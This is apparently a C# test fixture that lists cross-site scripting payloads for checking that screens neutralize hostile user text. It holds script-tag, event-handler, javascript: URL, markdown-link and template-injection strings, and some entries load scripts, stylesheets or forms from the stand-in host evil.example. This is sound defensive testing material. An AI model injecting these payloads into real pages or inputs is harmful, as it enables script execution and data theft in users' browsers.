namespace Coulisse.Screens.Tests.Safety;

/// <summary>What people type who want a reader's browser to run something.</summary>
public static class HostileText
{
    public static readonly string[] All =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
        "</style><script>alert(1)</script>", "</script><script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<IMG SRC=\"javascript:alert(1)\">",
        "<img src=//evil.example/p.png>", "<img srcset=\"//evil.example/p.png 1x\">", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<math><mtext><script>alert(1)</script></mtext></math>",
        "<math href=\"javascript:alert(1)\">x</math>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<iframe src=//evil.example>", "<object data=javascript:alert(1)>", "<embed src=//evil.example/x.swf>",
        "<body onload=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<video poster=//evil.example/p.png>",
        "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>", "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<button formaction=javascript:alert(1)>x</button>",
        "<form action=//evil.example><input name=x></form>", "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href=\"java\tscript:alert(1)\">x</a>", "[x](javascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](vbscript:alert(1))", "![x](//evil.example/p.png)",
        "![x](javascript:alert(1))", "[x](<javascript:alert(1)>)", "[x][1]\n\n[1]: javascript:alert(1)", "<javascript:alert(1)>",
        "[x](https://example.org \"onmouseover=alert(1)\")", "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<base href=//evil.example/>", "<div style=\"background:url(//evil.example/p.png)\">x</div>",
        "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "x\" autofocus onfocus=alert(1) y=\"", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}",
        "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<script>alert(1)</script>]]>", "<x contenteditable onblur=alert(1)>x</x>", "\u202e<script>alert(1)</script>", "＜script＞alert(1)＜/script＞",
    ];

    /// <summary>All of them in one text, each a paragraph.</summary>
    public static string Together => string.Join("\n\n", All);
}
